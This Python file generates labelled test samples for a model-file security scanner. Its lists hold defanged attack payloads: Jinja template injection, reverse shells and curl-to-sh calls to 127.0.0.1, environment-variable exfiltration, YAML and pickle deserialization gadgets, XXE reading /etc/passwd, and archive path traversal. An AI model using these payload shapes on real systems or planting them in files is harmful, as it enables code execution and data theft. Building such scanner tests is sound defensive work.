"""The first set of formats.py: the shapes that write-ups show."""

import base64
import gzip
import json
import struct
import zipfile

from formats import *

TEMPLATES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('true') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}{% endif %}{% endfor %}",
    "{{ ''|attr('__class__')|attr('__mro__') }}",
    "{{ lipsum.__globals__['os'].popen('true').read() }}",
    "{{ ''['__cla' + 'ss__'] }}",
    r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('true').read() }}",
    "{% set x = '%c%c' % (95, 95) %}{{ ''[x ~ 'class' ~ x] }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "{% include '/etc/hostname' %}",
    "{{ ''|attr(['_','_','class','_','_']|join) }}",
    "{{ namespace.__init__.__globals__.os.system('true') }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('true') }}",
]
PYTHON = [
    "import os\nos.system('true')\n",
    "import subprocess\nsubprocess.Popen(['true'], shell=True)\n",
    "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "eval(compile('pass', 'x', 'exec'))\n",
    "import socket,subprocess,os\ns=socket.socket()\ns.connect(('127.0.0.1',9))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
    "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\n",
    "getattr(__import__('os'), 'system')('true')\n",
    "import ctypes\nctypes.CDLL('./x.so').run()\n",
    "import shutil\nshutil.rmtree('/tmp/none/at/all')\n",
    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
    "class Model:\n    def __reduce__(self):\n        import os\n        return (os.system, ('true',))\n",
    "import requests, os\nrequests.post('http://127.0.0.1:9', data=dict(os.environ))\n",
    "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('key')\n",
    "from os import system as s\ndef forward(x):\n    s('true')\n    return x\n",
    "import importlib\nimportlib.import_module('subprocess').run('true', shell=True)\n",
    "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n"
    "    def run(self):\n        os.system('true')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n",
    "import pty\npty.spawn('/bin/true')\n",
    "__builtins__.__dict__['ex'+'ec']('pass')\n",
    "import pickle, base64\npickle.loads(base64.b64decode('gAROLg=='))\n",
]
YAML = [
    'a: !!python/object/apply:os.system ["true"]\n',
    "{a: !!python/object/apply:os.system [true]}\n",
    "!!python/object/new:subprocess.Popen\n- [true]\n",
    "f: !!python/name:os.system\n",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
    "%TAG ! tag:yaml.org,2002:python/\n---\n- !object/apply:os.system ['true']\n",
    "!!python/object/apply:builtins.eval ['1']\n",
    "- !!python/object/apply:builtins.exec\n  - pass\n",
    "model:\n  _target_: os.system\n  command: 'true'\n",
    "model:\n  inner:\n    - {_target_: subprocess.Popen, args: [true]}\n",
    "x:\n  _target_: builtins.eval\n  _args_: ['1']\n",
    "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "x:\n  _target_: os.system\n  _partial_: true\n",
]
JSON = [
    ('{"model": {"_target_": "os.system", "command": "true"}}', "malicious"),
    ('{"auto_map": {"AutoModel": "someone/else--modeling.Model"}, "model_type": "x"}', "surfaced"),
    ('{"a": [{"b": {"_target_": "subprocess.run", "args": ["true"]}}]}', "malicious"),
]
SHELL = [
    ("install.sh", "#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n", "malicious"),
    ("run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n", "malicious"),
    ("clean.sh", "#!/bin/sh\nrm -rf ~/\n", "malicious"),
    ("go.bat", "@echo off\r\npowershell -enc cABhAHMAcwA=\r\n", "malicious"),
    ("get.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9')\n", "malicious"),
    ("serve.sh", "#!/bin/sh\nset -e\npython serve.py --port 8000\n", "ordinary"),
    ("Makefile", "all: test\n\ntest:\n\tpytest -q\n", "ordinary"),
]


def write(w):
    for text in TEMPLATES:
        w.put("jinja", "malicious", "tokenizer_config.json", json.dumps({"chat_template": text}))
    for text in TEMPLATES[::2]:
        w.put("jinja", "malicious", "chat_template.jinja", text)
        w.put("jinja", "malicious", "model.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": text}))
    for number, text in enumerate(PYTHON):
        w.put("python", "malicious", "setup.py" if number == 15 else "modeling_x.py", text)
    w.put("python", "malicious", "x.pth", "import os; os.system('true')\n")
    w.put("python", "malicious", "book.ipynb", notebook("!curl http://127.0.0.1:9 | sh"))
    w.put("python", "malicious", "book.ipynb", notebook("import os\nos.system('true')"))
    for text in YAML:
        w.put("yaml", "malicious", "config.yaml", text)
    for text, label in JSON:
        w.put("json", label, "config.json", text)
    for name, text, label in SHELL:
        w.put("script", label, name, text)
    keras(w)
    graphs(w)
    tensors(w)
    archives(w)
    disguises(w)
    others(w)
    for target in ("/etc/hostname", "../../../../etc/hostname"):
        w.link("weights.safetensors", target)


def keras(w):
    code = base64.b64encode(code_bytes("f = lambda x: __import__('os').system('true')")).decode()
    calm = base64.b64encode(code_bytes("f = lambda x: x * 2")).decode()
    for one, label in ((code, "malicious"), (calm, "surfaced")):
        layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
            "name": "l", "function": {"class_name": "__lambda__", "config": {"code": one, "defaults": None, "closure": None}}}}
        w.put("keras", label, "m.keras", keras_file(keras_config(layer)))
        old = {"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Lambda", "config": {"name": "l", "function_type": "lambda", "function": [one, None, None]}}]}}
        w.put("keras", label, "m.h5", h5({"model_config": json.dumps(old)}))
    outside = [("os", "system"), ("subprocess", "Popen"), ("builtins", "eval"), ("keras.utils", "get_file")]
    for module, name in outside:
        layer = {"module": module, "class_name": name, "registered_name": name, "config": {"command": "true"}}
        w.put("keras", "malicious", "m.keras", keras_file(keras_config(dense(), layer)))
        w.put("keras", "malicious", "m.keras", keras_file(keras_config(keras_config(layer))))
    w.put("keras", "malicious", "m.keras", keras_file(keras_config(dense()), **{"extra.pkl": bad_pickle()}))
    custom = {"module": "mine", "class_name": "Thing", "registered_name": "mine>Thing", "config": {}}
    w.put("keras", "surfaced", "m.keras", keras_file(keras_config(custom)))

    def links(file):
        import h5py

        file["w"] = h5py.ExternalLink("/etc/hostname", "/x")

    w.put("keras", "surfaced", "w.h5", h5({}, links))
    w.put("keras", "surfaced", "w.h5", h5({}, lambda f: f.create_dataset("d", (4,), "u1", external=[("/etc/hostname", 0, 4)])))


def graphs(w):
    op = lambda *more: onnx_node("Relu", "", *more)
    for path in ("../../../etc/passwd", "/etc/passwd"):
        w.put("onnx", "malicious", "m.onnx", onnx_model([op()], [onnx_outside(path)]))
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("PythonOp", "com.microsoft")], domains=("", "com.microsoft")))
    w.put("onnx", "surfaced", "m.onnx", onnx_model([onnx_node("Steal", "evil.ops")], domains=("", "evil.ops")))
    for name in ("PyFunc", "EagerPyFunc", "ReadFile", "WriteFile"):
        w.put("tensorflow", "malicious", "saved_model.pb", saved_model([node("a", "Const"), node("b", name)]))
    w.put("tensorflow", "malicious", "saved_model.pb", saved_model([node("a", "Const")], [("f", [node("p", "PyFunc")])]))


def tensors(w):
    one = lambda a, b: {"dtype": "F32", "shape": [(b - a) // 4], "data_offsets": [a, b]}
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one(0, 8), "b": one(4, 16)}))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one(0, 8), "b": one(12, 16)}))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one(0, 999996)}))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}'))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one(0, 16)}, length=1 << 40))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one(0, 16)}, b"\0" * 16 + b"trailing"))
    w.put("safetensors", "malicious", "m.safetensors", safetensors({"a": one(0, 16)}) + bad_pickle())
    w.put("safetensors", "ordinary", "m.safetensors", safetensors({"__metadata__": {"format": "pt"}, "a": one(0, 16)}))
    w.put("gguf", "surfaced", "m.gguf", gguf({"a": "b"}, count=1 << 60))
    w.put("gguf", "surfaced", "m.gguf", gguf({"a": "b"}, tensors=[("t", [1 << 40], 0, 0)]))


def archives(w):
    bad = {"archive/data.pkl": bad_pickle(), "archive/version": b"3\n"}
    w.put("archive", "malicious", "m.zip", zipped({"a/inner.zip": zipped(bad)}))
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2):
        w.put("archive", "malicious", "m.pt", zipped(bad, method))
    w.put("archive", "malicious", "m.zip", zipped({"../../evil.py": b"import os\nos.system('true')\n"}))
    w.put("archive", "malicious", "m.zip", zipped({"/etc/cron.d/x": b"* * * * * root true\n"}))
    w.put("archive", "malicious", "m.tar.gz", tarred(bad, "w:gz"))
    w.put("archive", "malicious", "m.tar", tarred({}, links=[("x", "/etc/passwd", b"2")]))
    w.put("archive", "malicious", "m.tar", tarred({"../../x": b"a"}))
    stored = bytearray(zipped(bad, zipfile.ZIP_STORED))
    stored[14:18] = b"\0\0\0\0"
    w.put("archive", "malicious", "m.pt", bytes(stored))
    flags = bytearray(zipped(bad))
    flags[6] |= 1
    w.put("archive", "malicious", "m.pt", bytes(flags))
    names = zipped(bad, zipfile.ZIP_STORED)
    cut = names.index(b"archive/data.pkl")
    w.put("archive", "malicious", "m.pt", names[:cut] + b"archive/data.txt" + names[cut + 16:])
    w.put("archive", "malicious", "m.pkl.gz", gzip.compress(bad_pickle()))
    w.put("archive", "malicious", "m.pkl.xz", lzma.compress(bad_pickle()))
    w.put("archive", "malicious", "m.mar", zipped({"MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}', "handler.py": PYTHON[1].encode()}))
    w.put("archive", "malicious", "m.nemo", tarred({"./model_config.yaml": YAML[8].encode(), "./w.ckpt": calm_pickle()}))
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        archive.writestr(bad_pickle(), "x/data.pkl")
    w.put("archive", "malicious", "m.7z", out.getvalue())


def disguises(w):
    for name in ("model.safetensors", "model.json", "readme.txt", "m.onnx", "a.jpg", "weights", "x.gguf", "w.h5"):
        w.put("disguise", "malicious", name, bad_pickle())
    programs = {"elf": b"\x7fELF\x02\x01\x01" + b"\0" * 60, "pe": b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 60,
                "macho": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 60, "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 40,
                "wasm": b"\0asm\1\0\0\0"}
    for name, data in programs.items():
        w.put("disguise", "malicious", f"{name}.safetensors", data)
    w.put("polyglot", "malicious", "a.gif", b"GIF89a" + b"\0" * 20 + zipped({"data.pkl": bad_pickle()}))
    w.put("polyglot", "malicious", "a.pdf", b"%PDF-1.4\n%%EOF\n" + zipped({"data.pkl": bad_pickle()}))
    w.put("polyglot", "malicious", "m.safetensors", safetensors({}, b"") + zipped({"data.pkl": bad_pickle()}))


def others(w):
    import numpy

    out = io.BytesIO()
    numpy.save(out, numpy.array([Call(os.system, "true")], dtype=object), allow_pickle=True)
    w.put("numpy", "malicious", "a.npy", out.getvalue())
    w.put("numpy", "malicious", "a.npz", zipped({"arr_0.npy": out.getvalue()}))
    w.put("xml", "malicious", "m.pmml", '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>')
    skops = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1, "content": {}}
    w.put("skops", "malicious", "m.skops", zipped({"schema.json": json.dumps({**skops, "protocol": 1}).encode()}))
    w.put("lnk", "malicious", "model.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + b"\0" * 60)
    w.put("torchscript", "malicious", "m.pt", zipped({"a/code/__torch__.py": b"def forward(self, x):\n  return __import__('os').system('true')\n",
                                                     "a/data.pkl": bad_pickle(), "a/constants.pkl": calm_pickle()}))
